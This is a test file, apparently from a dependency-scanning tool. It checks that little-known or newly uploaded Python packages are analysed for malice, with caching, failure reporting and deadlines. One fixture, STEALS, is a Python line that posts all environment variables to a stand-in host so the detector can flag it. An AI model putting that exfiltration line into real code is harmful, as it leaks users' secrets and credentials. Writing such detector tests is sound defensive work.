import { assertEquals } from "@std/assert";
import { rulesDigest, withReadings } from "../../src/packages/readings.ts";
import type { Analysis } from "../../src/scan/analysis/analysis.ts";
import type { PackageReading, Packages } from "../../src/scan/packages_schema.ts";
import { describeDatabases, silentLog } from "../helpers/database.ts";
import type { TestPackage } from "../helpers/package_index.ts";
import { HERE, withIndex } from "./harness.ts";

const STEALS = "import os, requests\nrequests.post('https://c.example', json=dict(os.environ))\n";
const PACKAGES: TestPackage[] = [
  { name: "helper-kit", version: "1.0", files: { "kit/__init__.py": STEALS } },
  { name: "plain-kit", version: "2.0", files: { "plain/__init__.py": "x = 1\n" } },
  { name: "arrow", version: "8.1.0", files: { "arrow/__init__.py": STEALS } },
];
const DAY_MS = 24 * 3_600_000;

/** An analysis that counts its runs, and may fail. */
function counting(outcome?: Awaited<ReturnType<Analysis["run"]>>) {
  const runs: string[][] = [];
  const analysis: Pick<Analysis, "run"> = {
    run(request, deadline) {
      const { packages } = request.options as { packages: { name: string }[] };
      runs.push(packages.map(({ name }) => name));
      return outcome === undefined ? HERE.run(request, deadline) : Promise.resolve(outcome);
    },
  };
  return { runs, analysis };
}

function readingsOf({ resolved }: Packages): Record<string, PackageReading | undefined> {
  return Object.fromEntries(resolved.map(({ name, reading }) => [name, reading]));
}

describeDatabases((kind, open) => {
  Deno.test(`packages that are not well known are read for malice, once for all, on ${kind}`, async (t) => {
    const database = await open();
    const { sql } = database;
    const signal = new AbortController().signal;
    const now = () => new Date("2026-11-20T00:00:00Z");
    const base = { sql, log: silentLog, now };
    try {
      await withIndex(sql, PACKAGES, async ({ resolve }) => {
        const packages = await resolve({
          "server.py": "",
          "requirements.txt": "helper-kit\nplain-kit\narrow\n",
        });

        await t.step(
          "findings name rule, file and line; a popular package is not read",
          async () => {
            const { runs, analysis } = counting();
            const read = readingsOf(
              await withReadings({ ...base, reading: analysis }, packages, signal),
            );
            assertEquals(runs.flat().sort(), ["helper-kit", "plain-kit"]);
            const { findings, problem } = read["helper-kit"]!;
            assertEquals([findings[0]?.rule, findings[0]?.file, findings[0]?.line, problem], [
              "py/environment-sent",
              "kit/__init__.py",
              2,
              null,
            ]);
            assertEquals(read["plain-kit"], { findings: [], unread: [], problem: null });
            assertEquals(read["arrow"], undefined);
          },
        );

        await t.step("what is known is not read again, until the rules change", async () => {
          const { runs, analysis } = counting();
          const read = readingsOf(
            await withReadings({ ...base, reading: analysis }, packages, signal),
          );
          assertEquals([runs, read["helper-kit"]?.findings.length], [[], 1]);
          await sql`update package_readings set rules = 'older'`;
          await withReadings({ ...base, reading: analysis }, packages, signal);
          assertEquals(runs.flat().length, 2);
          const rows = await sql<{ rules: string }[]>`select distinct rules from package_readings`;
          assertEquals(rows.map(({ rules }) => rules), [await rulesDigest()]);
        });

        await t.step("a popular package is read while its version is young", async () => {
          const young = (days: number) => ({
            ...packages,
            resolved: packages.resolved.map((each) => ({
              ...each,
              uploaded: new Date(now().getTime() - days * DAY_MS).toISOString(),
            })),
          });
          const { runs, analysis } = counting();
          const read = readingsOf(
            await withReadings({ ...base, reading: analysis }, young(3), signal),
          );
          assertEquals([runs, read["arrow"]?.findings.length], [[["arrow"]], 1]);
          const older = await withReadings({ ...base, reading: analysis }, young(30), signal);
          assertEquals(readingsOf(older)["arrow"], undefined);
        });

        await t.step(
          "what cannot be read says so, each by itself, and is tried again",
          async () => {
            await sql`delete from package_readings`;
            const broken = counting({ kind: "failed", code: "crashed", message: "It broke" });
            const read = readingsOf(
              await withReadings({ ...base, reading: broken.analysis }, packages, signal),
            );
            assertEquals(broken.runs.length, 3);
            assertEquals(read["helper-kit"], { findings: [], unread: [], problem: "It broke" });
            const { runs, analysis } = counting();
            await withReadings({ ...base, reading: analysis }, packages, signal);
            assertEquals(runs.flat().length, 2);
          },
        );

        await t.step("reading has a deadline", async () => {
          await sql`delete from package_readings`;
          const never: Pick<Analysis, "run"> = {
            run: (_request, { signal }) =>
              new Promise((_, reject) => {
                const end = () => reject(signal!.reason);
                signal!.addEventListener("abort", end, { once: true });
                if (signal!.aborted) end();
              }),
          };
          const read = readingsOf(
            await withReadings({ ...base, reading: never, deadlineMs: 20 }, packages, signal),
          );
          assertEquals(read["helper-kit"]?.problem, "its files could not be read in time");
        });
      });
    } finally {
      await database.close();
    }
  });
});
